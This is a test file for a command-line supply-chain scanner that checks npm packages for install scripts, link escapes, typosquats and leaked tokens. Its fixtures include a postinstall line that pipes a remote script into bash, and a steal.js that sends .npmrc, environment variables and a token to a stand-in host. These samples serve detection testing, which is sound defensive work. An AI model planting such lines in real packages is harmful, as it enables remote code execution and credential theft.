import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { runCli } from '../support/cli.js';
import { packTree, tempDir } from './support.js';

let work: { dir: string; cleanup(): Promise<void> };
let bad: string;
let good: string;
beforeAll(async () => {
  work = await tempDir('sscs-scan-cli-');
  bad = await packTree(work.dir, 'bad', { scripts: { postinstall: 'curl -s https://example.invalid/i.sh | bash' } });
  good = await packTree(work.dir, 'good-package', { main: 'index.js' }, { 'index.js': 'module.exports = 1;\n', 'scripts/fmt.js': "require('child_process').execSync('prettier --write .');\n" });
});
afterAll(() => work.cleanup());

describe('sscs scan', () => {
  it('prints a readable report and exits 1 on a critical finding', async () => {
    const r = await runCli(['scan', bad]);
    expect(r.exitCode).toBe(1);
    expect(r.stdout).toBe([
      `bad@1.0.0: 2 entries, ${r.stdout.match(/entries, (\d+) bytes/)![1]} bytes`,
      'CRITICAL install-script-remote-code  package.json:5',
      '         postinstall script downloads code and runs it',
      '         evidence: postinstall: curl -s https://example.invalid/i.sh | bash',
      '1 finding (1 critical); fail-on high: FAIL',
      '',
    ].join('\n'));
  });

  it('prints JSON findings and exits 0 when nothing reaches --fail-on', async () => {
    const r = await runCli(['scan', bad, '--format', 'json', '--fail-on', 'none']);
    expect(r.exitCode).toBe(0);
    const out = JSON.parse(r.stdout);
    expect(out).toMatchObject({ package: { name: 'bad', version: '1.0.0' }, files: 2, failOn: 'none', failed: false });
    expect(out.findings).toEqual([{ rule: 'install-script-remote-code', severity: 'critical', file: 'package.json', line: 5, evidence: 'postinstall: curl -s https://example.invalid/i.sh | bash', message: 'postinstall script downloads code and runs it' }]);
  });

  it('exits 0 on a clean package', async () => {
    const r = await runCli(['scan', good]);
    expect(r).toMatchObject({ exitCode: 0 });
    expect(r.stdout).toMatch(/^good-package@1\.0\.0: 5 entries, \d+ bytes\nno findings; fail-on high: ok\n$/);
  });

  it('scans a folder, reporting a link out of it', async () => {
    const dir = join(work.dir, 'folder');
    await mkdir(join(dir, 'lib'), { recursive: true });
    await writeFile(join(dir, 'package.json'), JSON.stringify({ name: 'folder', version: '2.0.0' }));
    await symlink('/etc/hostname', join(dir, 'lib', 'host'));
    const r = await runCli(['scan', dir, '--format', 'json']);
    expect(r.exitCode).toBe(1);
    expect(JSON.parse(r.stdout).findings.map((f: { rule: string; file: string }) => `${f.rule} ${f.file}`)).toEqual(['tar-link-escape lib/host']);
  });

  it('exits 2 on bad input and bad flags', async () => {
    const missing = await runCli(['scan', join(work.dir, 'missing.tgz')]);
    expect(missing.exitCode).toBe(2);
    expect(missing.stderr).toBe(`sscs: error: ${join(work.dir, 'missing.tgz')}: package not found\n`);
    const notTar = join(work.dir, 'notes.txt');
    await writeFile(notTar, 'hello\n'.repeat(200));
    expect((await runCli(['scan', notTar])).exitCode).toBe(2);
    const flag = await runCli(['scan', bad, '--fail-on', 'severe']);
    expect(flag.exitCode).toBe(2);
    expect(flag.stderr).toContain("--fail-on must be one of low, medium, high, critical, none, not 'severe'");
  });
});

describe('sscs scan: package identity', () => {
  it('reports a typosquat name and a version listed by the malicious feed', async () => {
    const tgz = await packTree(work.dir, 'expres-helper', { version: '1.0.2' });
    const typo = await packTree(work.dir, 'lodahs', {});
    const feed = new URL('./fixtures/osv', import.meta.url).pathname;
    const r = await runCli(['scan', tgz, '--malicious-feed', feed, '--format', 'json']);
    expect(r.exitCode).toBe(1);
    expect(JSON.parse(r.stdout).findings).toEqual([
      { rule: 'known-malicious', severity: 'critical', file: 'package.json', evidence: 'expres-helper@1.0.2', message: 'listed as malicious by MAL-2025-90001' },
    ]);
    const t = await runCli(['scan', typo, '--format', 'json']);
    expect(t.exitCode).toBe(0);
    expect(JSON.parse(t.stdout).findings).toEqual([
      { rule: 'typosquat', severity: 'medium', file: 'package.json', evidence: 'lodahs', message: 'name imitates the popular package lodash' },
    ]);
  });
});

describe('sscs scan: secrets in packages', () => {
  it('never prints a token found in the package', async () => {
    const token = `npm_${'A1b2C3d4'.repeat(5)}`;
    const tgz = await packTree(work.dir, 'leaky', { scripts: { preinstall: `echo //registry.npmjs.org/:_authToken=${token} > .npmrc && npm publish` } }, {
      'steal.js': `const t = "${token}";\nrequire('https').request({ host: 'example.invalid' }).end(require('fs').readFileSync('.npmrc') + JSON.stringify(process.env) + t);\n`,
    });
    for (const format of ['text', 'json']) {
      const r = await runCli(['scan', tgz, '--format', format]);
      expect(r.exitCode).toBe(1);
      expect(r.stdout).toContain('_authToken=[REDACTED]');
      expect(r.stdout + r.stderr).not.toContain(token);
      expect(r.stdout + r.stderr).not.toContain('A1b2C3d4');
    }
  });
});
